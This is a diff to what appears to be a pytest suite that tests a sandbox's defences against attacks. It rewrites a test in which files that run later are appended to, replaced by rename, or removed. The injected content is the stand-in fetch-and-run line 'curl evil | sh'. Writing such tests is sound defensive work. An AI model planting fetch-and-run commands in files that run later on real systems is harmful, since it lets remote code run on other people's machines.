@@ -5,10 +5,8 @@ from __future__ import annotations
 import shutil
 from typing import TYPE_CHECKING
 
-import pytest
-
 if TYPE_CHECKING:
-    from tests.attacks.conftest import Arena
+    from tests.attacks.conftest import Arena, Done
 
 READ_ONLY = "changes of what is shown read-only"
 EVIL = "curl evil | sh"
@@ -33,20 +31,30 @@ OBEYED = (
 )
 
 
-@pytest.mark.parametrize("name", OBEYED)
-def test_a_file_that_runs_later(arena: Arena, name: str) -> None:
-    victim = arena.write(arena.workspace / name, "kept")
+def test_files_that_run_later(arena: Arena) -> None:
+    """Appended to, replaced by a rename, removed: plainly every one changes, inside none."""
+    victims = [arena.workspace / name for name in OBEYED]
 
     def restore() -> None:
-        victim.unlink(missing_ok=True)
-        arena.write(victim, "kept")
+        for victim in victims:
+            victim.unlink(missing_ok=True)
+            arena.write(victim, "kept")
 
-    arena.attack(
-        f"echo '{EVIL}' >> {name}; echo '{EVIL}' > new; mv new {name}; rm -f {name}; true",
-        effect=lambda _: not victim.exists() or victim.read_text() != "kept",
-        restore=restore,
-        unseen=READ_ONLY,
+    restore()
+    script = "\n".join(
+        f"echo '{EVIL}' >> {name}; echo '{EVIL}' > new; mv -f new {name}; rm -f {name}" for name in OBEYED
     )
+    changed: list[str] = []
+
+    def effect(_: Done) -> bool:
+        changed[:] = [str(path) for path in victims if not path.exists() or path.read_text() != "kept"]
+        return bool(changed)
+
+    plain = arena.plain(script)
+    assert effect(plain)
+    assert len(changed) == len(victims)
+    restore()
+    arena.attack(script, effect=effect, restore=restore, unseen=READ_ONLY)
 
 
 def test_a_directory_of_hooks_put_in_place_of_another(arena: Arena) -> None:
